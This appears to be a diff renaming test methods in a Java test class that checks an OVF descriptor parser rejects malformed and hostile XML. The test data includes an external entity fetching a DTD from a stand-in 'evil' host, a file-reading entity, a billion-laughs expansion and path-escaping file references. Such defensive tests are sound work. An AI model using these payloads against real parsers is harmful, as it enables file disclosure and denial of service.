@@ -34,7 +34,7 @@ class DescriptorRejectionTest {
         "<Envelope>&unknown;</Envelope>",
         "<Envelope>&#0;</Envelope>"
       })
-  void shouldRefuseWhatIsNoXml(String xml) {
+  void shouldRejectMalformedXml(String xml) {
     assertThatThrownBy(() -> parse(xml))
         .isInstanceOf(OvfException.class)
         .hasMessageStartingWith("The OVF descriptor is not XML that can be read: line 1, column ");
@@ -47,7 +47,7 @@ class DescriptorRejectionTest {
     "US-ASCII, is not in US-ASCII",
     "UTF-8, is not in UTF-8"
   })
-  void shouldRefuseWhatCannotBeDecoded(String encoding, String why) {
+  void shouldRejectUndecodableText(String encoding, String why) {
     String xml = "<?xml version='1.0' encoding='" + encoding + "'?><Envelope>\u00fc</Envelope>";
     byte[] bytes = xml.getBytes(StandardCharsets.ISO_8859_1);
 
@@ -57,14 +57,14 @@ class DescriptorRejectionTest {
   }
 
   @Test
-  void shouldRefuseAnotherRoot() {
+  void shouldRejectOtherRootElement() {
     assertThatThrownBy(() -> parse("<html><References><File href='a'/></References></html>"))
         .isInstanceOf(OvfException.class)
         .hasMessage("The root element of the OVF descriptor is 'html' instead of Envelope.");
   }
 
   @Test
-  void shouldRefuseEntitiesThatReadFiles(@TempDir Path directory) throws IOException {
+  void shouldRejectExternalEntities(@TempDir Path directory) throws IOException {
     Path secret = Files.writeString(directory.resolve("secret"), "s3cret");
     String xml =
         """
@@ -87,14 +87,14 @@ class DescriptorRejectionTest {
         "<!DOCTYPE Envelope [<!ENTITY % p SYSTEM 'http://192.0.2.1/evil.dtd'> %p;]>",
         "<!DOCTYPE Envelope [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'><!ENTITY c '&b;&b;&b;'>]>"
       })
-  void shouldRefuseEveryDoctype(String doctype) {
+  void shouldRejectDoctype(String doctype) {
     assertThatThrownBy(() -> parse(doctype + "<Envelope/>"))
         .isInstanceOf(OvfException.class)
         .hasMessage("The OVF descriptor has a DOCTYPE, which is not supported.");
   }
 
   @Test
-  void shouldRefuseABillionLaughs() {
+  void shouldRejectBillionLaughs() {
     var laughs = new StringBuilder("<!DOCTYPE Envelope [<!ENTITY l0 'ha'>");
     for (int i = 1; i < 30; i++) {
       laughs.append("<!ENTITY l%s '%s'>".formatted(i, ("&l" + (i - 1) + ";").repeat(10)));
@@ -105,7 +105,7 @@ class DescriptorRejectionTest {
   }
 
   @Test
-  void shouldRefuseDeepNesting() {
+  void shouldRejectDeepNesting() {
     String xml = "<Envelope>" + "<a>".repeat(1_000_000);
 
     assertThatThrownBy(() -> parse(xml))
@@ -115,7 +115,7 @@ class DescriptorRejectionTest {
 
   @ParameterizedTest
   @ValueSource(strings = {" a", " xmlns:a"})
-  void shouldRefuseTooManyAttributes(String name) {
+  void shouldRejectTooManyAttributes(String name) {
     var attributes = new StringBuilder();
     for (int i = 0; i < 5_000; i++) {
       attributes.append(name).append(i).append("='a'");
@@ -126,7 +126,7 @@ class DescriptorRejectionTest {
   }
 
   @Test
-  void shouldReadNoMoreThanTheLimit() {
+  void shouldStopReadingAtMaximumSize() {
     var endless =
         new InputStream() {
           private long read;
@@ -146,7 +146,7 @@ class DescriptorRejectionTest {
   }
 
   @Test
-  void shouldPassOnWhatFailsInTheStream() {
+  void shouldPropagateStreamFailure() {
     var failing =
         new InputStream() {
           @Override
@@ -168,7 +168,7 @@ class DescriptorRejectionTest {
         "file:disk.vmdk",
         "c:disk.vmdk"
       })
-  void shouldRefuseFilesElsewhere(String href) {
+  void shouldRejectReferencesToOtherLocations(String href) {
     assertThatThrownBy(() -> parse(envelope("<File href='" + href + "'/>")))
         .isInstanceOf(OvfException.class)
         .hasMessage(
@@ -199,7 +199,7 @@ class DescriptorRejectionTest {
     "%C0%AF, UTF-8",
     "%ED%A0%80, UTF-8"
   })
-  void shouldRefuseNamesThatAreNoFilesBesideIt(String href, String why) {
+  void shouldRejectInvalidFileNames(String href, String why) {
     // A line feed in an attribute is a blank, but a reference to one is not.
     assertThatThrownBy(() -> parse(envelope("<File href='" + href + "'/>")))
         .isInstanceOf(OvfException.class)
@@ -207,7 +207,7 @@ class DescriptorRejectionTest {
   }
 
   @Test
-  void shouldRefuseNamesThatAreTooLong() throws IOException {
+  void shouldRejectTooLongNames() throws IOException {
     assertThat(parse(envelope("<File href='" + "é".repeat(127) + "'/>")).references()).hasSize(1);
 
     assertThatThrownBy(() -> parse(envelope("<File href='" + "é".repeat(128) + "'/>")))
@@ -216,14 +216,14 @@ class DescriptorRejectionTest {
   }
 
   @Test
-  void shouldRefuseAFileWithoutAName() {
+  void shouldRejectFileWithoutHref() {
     assertThatThrownBy(() -> parse(envelope("<File id='file1'/>")))
         .isInstanceOf(OvfException.class)
         .hasMessage("A File element of the OVF descriptor has no href attribute.");
   }
 
   @Test
-  void shouldRefuseAFileWithTwoNames() {
+  void shouldRejectFileWithTwoHrefs() {
     assertThatThrownBy(() -> parse(envelope("<File ovf:href='a' href='b'/>")))
         .isInstanceOf(OvfException.class)
         .hasMessage("A File element of the OVF descriptor has more than one href attribute.");
@@ -236,7 +236,7 @@ class DescriptorRejectionTest {
         "<File href='a'/><File href='%61'/>",
         "<File href='a.000000001'/><File href='a' size='2' chunkSize='1'/>"
       })
-  void shouldRefuseAFileThatIsReferredToTwice(String references) {
+  void shouldRejectDuplicateReference(String references) {
     assertThatThrownBy(() -> parse(envelope(references)))
         .isInstanceOf(OvfException.class)
         .hasMessageContaining("twice");
@@ -245,7 +245,7 @@ class DescriptorRejectionTest {
   @ParameterizedTest
   @ValueSource(
       strings = {"", "-1", "+1", "1.5", "0x10", "٣", "ten", "9223372036854775808", "1 0", "1e3"})
-  void shouldRefuseSizesThatAreNone(String size) {
+  void shouldRejectInvalidSize(String size) {
     assertThatThrownBy(() -> parse(envelope("<File href='a' size='" + size + "'/>")))
         .isInstanceOf(OvfException.class)
         .hasMessageContaining("The size of 'a'");
@@ -256,14 +256,14 @@ class DescriptorRejectionTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"chunkSize='10'", "size='10' chunkSize='0'"})
-  void shouldRefuseChunksThatCannotBeCounted(String attributes) {
+  void shouldRejectInvalidChunkSize(String attributes) {
     assertThatThrownBy(() -> parse(envelope("<File href='a' " + attributes + "/>")))
         .isInstanceOf(OvfException.class)
         .hasMessageContaining("how many chunks");
   }
 
   @Test
-  void shouldRefuseTooManyReferences() throws IOException {
+  void shouldRejectTooManyReferences() throws IOException {
     var files = new StringBuilder();
     for (int i = 0; i < Descriptor.MAX_REFERENCES; i++) {
       files.append("<File href='").append(i).append("'/>");
@@ -277,14 +277,14 @@ class DescriptorRejectionTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"10001", "9223372036854775807"})
-  void shouldRefuseTooManyChunks(String size) {
+  void shouldRejectTooManyChunks(String size) {
     assertThatThrownBy(() -> parse(envelope("<File href='a' size='" + size + "' chunkSize='1'/>")))
         .isInstanceOf(OvfException.class)
         .hasMessageContaining("more than the 10000 files");
   }
 
   @Test
-  void shouldAnswerDamageWithRefusals() throws IOException {
+  void shouldRejectDamagedInput() throws IOException {
     byte[] sound = envelope("<File href='d%20d' size='3' chunkSize='2'/>").getBytes("UTF-8");
     var random = new Random(1);
 
